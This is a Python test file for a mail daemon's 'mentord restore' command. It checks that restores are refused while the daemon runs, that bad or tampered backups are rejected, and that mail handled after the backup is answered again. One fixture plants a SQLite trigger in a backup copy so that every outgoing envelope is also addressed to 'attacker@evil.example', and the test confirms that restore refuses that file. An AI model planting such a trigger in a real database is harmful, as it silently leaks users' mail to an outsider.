"""`mentord restore FILE`: refused while the daemon runs; the backup is
checked first; the mail the server flagged after the backup was taken is
read again (by its UIDs in the mailbox, in processed_mailbox by date), what
the backup knew is recognised by its Message-ID; and what was sent after
the backup is listed, on the terminal and to the committee."""
import os
import signal
import sqlite3
import subprocess
import time

from common import MentordTest, mail, of_kind, text_of


class Restore(MentordTest):
    extra_config = ""

    def db_path(self):
        return os.path.join(self.env.root, "state", "mentord.db")

    def inbound_senders(self):
        db = sqlite3.connect(self.db_path())
        try:
            return sorted(r[0] for r in db.execute("SELECT sender FROM inbound"))
        finally:
            db.close()

    def scenario(self):
        env = self.env
        backup = os.path.join(env.root, "b1.db")
        env.dovecot.deliver(mail("a@example.com", "help"))
        self.once(now="2026-03-02T09:00")
        r = env.run("backup", backup, now="2026-03-02T09:30")
        self.assertEqual(r.returncode, 0, r.stderr)
        env.dovecot.deliver(mail("b@example.com", "help"))
        env.dovecot.deliver(mail("c@example.com", "aide"))
        self.once(now="2026-03-02T10:00")
        old_ids = {m["Message-ID"] for m in of_kind(env, "help")}
        self.assertEqual(len(old_ids), 3)

        # refused while the daemon runs
        log = open(os.path.join(env.root, "run.log"), "w")
        daemon = subprocess.Popen([env.mentord_bin, "-c", env.config, "run"],
                                  stdout=subprocess.DEVNULL, stderr=log)
        log.close()
        try:
            time.sleep(1.5)
            with open(self.db_path(), "rb") as f:
                before = f.read()
            r = env.run("restore", backup, now="2026-03-02T11:00")
            self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
            self.assertIn("mentord is running", r.stderr)
            self.assertIn("stop it first", r.stderr)
            with open(self.db_path(), "rb") as f:
                self.assertEqual(f.read(), before)
        finally:
            daemon.send_signal(signal.SIGTERM)
            daemon.wait(10)

        # a file that is no backup is refused, and nothing changes
        junk = os.path.join(env.root, "junk.db")
        with open(junk, "w") as f:
            f.write("not a database\n")
        r = env.run("restore", junk, now="2026-03-02T11:00")
        self.assertEqual(r.returncode, 1)
        self.assertIn("not a mentord database", r.stderr)

        # a backup with a trigger of its own (one that adds an attacker to
        # every envelope) is refused, and nothing changes
        hostile = os.path.join(env.root, "hostile.db")
        with open(backup, "rb") as f, open(hostile, "wb") as g:
            g.write(f.read())
        db = sqlite3.connect(hostile)
        db.execute("CREATE TRIGGER t AFTER UPDATE ON outbound BEGIN UPDATE outbound"
                   " SET envelope_to = envelope_to || ',attacker@evil.example'"
                   " WHERE id = new.id; END")
        db.commit()
        db.close()
        with open(self.db_path(), "rb") as f:
            before = f.read()
        r = env.run("restore", hostile, now="2026-03-02T11:00")
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertIn("its schema is not the one mentord creates (trigger t outbound)", r.stderr)
        with open(self.db_path(), "rb") as f:
            self.assertEqual(f.read(), before)

        r = env.run("restore", backup, now="2026-03-02T11:00")
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        out = r.stdout
        print(f"\n  restore: {out.strip()}")
        self.assertIn("taken 2026-03-02 09:30", out)
        self.assertIn("help", out)
        self.assertIn("to b@example.com", out)
        self.assertIn("to c@example.com", out)
        self.assertNotIn("to a@example.com", out, "sent before the backup")
        replaced = [p for p in os.listdir(os.path.join(env.root, "state")) if ".replaced-" in p]
        self.assertTrue(replaced, "the replaced database is kept")
        self.assertEqual(self.inbound_senders(), ["a@example.com"])

        # the next cycle reads again what was flagged after the backup
        self.once(now="2026-03-02T11:05")
        self.assertEqual(self.inbound_senders(), ["a@example.com", "b@example.com", "c@example.com"])
        helps = of_kind(env, "help")
        self.assertEqual(len(of_kind(env, "help", "a@example.com")), 1, "a was in the backup")
        self.assertEqual(len(of_kind(env, "help", "b@example.com")), 2)
        new_ids = {m["Message-ID"] for m in helps} - old_ids
        self.assertEqual(len(new_ids), 2, "new answers, with Message-IDs never used before")
        notice = of_kind(env, "restore-notice")
        self.assertEqual(len(notice), 1)
        text = text_of(notice[0])
        self.assertIn("b@example.com", text)
        self.assertIn("c@example.com", text)
        self.assertIn("2026-03-02 09:30", text)
        # and only once
        self.once(now="2026-03-02T11:10")
        self.assertEqual(len(of_kind(env, "help", "b@example.com")), 2)
        self.assertEqual(len(of_kind(env, "restore-notice")), 1)

    def test_restore_flagged_mail(self):
        self.scenario()


class RestoreMoved(Restore):
    """Handled mail moved to processed_mailbox is read again there."""
    extra_config = "imap.processed_mailbox = Processed"

    def test_restore_flagged_mail(self):
        self.scenario()
        imap = self.env.dovecot.imap()
        try:
            imap.select("Processed", readonly=True)
            typ, data = imap.uid("SEARCH", None, "ALL")
            self.assertEqual(len(data[0].split()), 3, "nothing moved twice, nothing lost")
        finally:
            imap.logout()
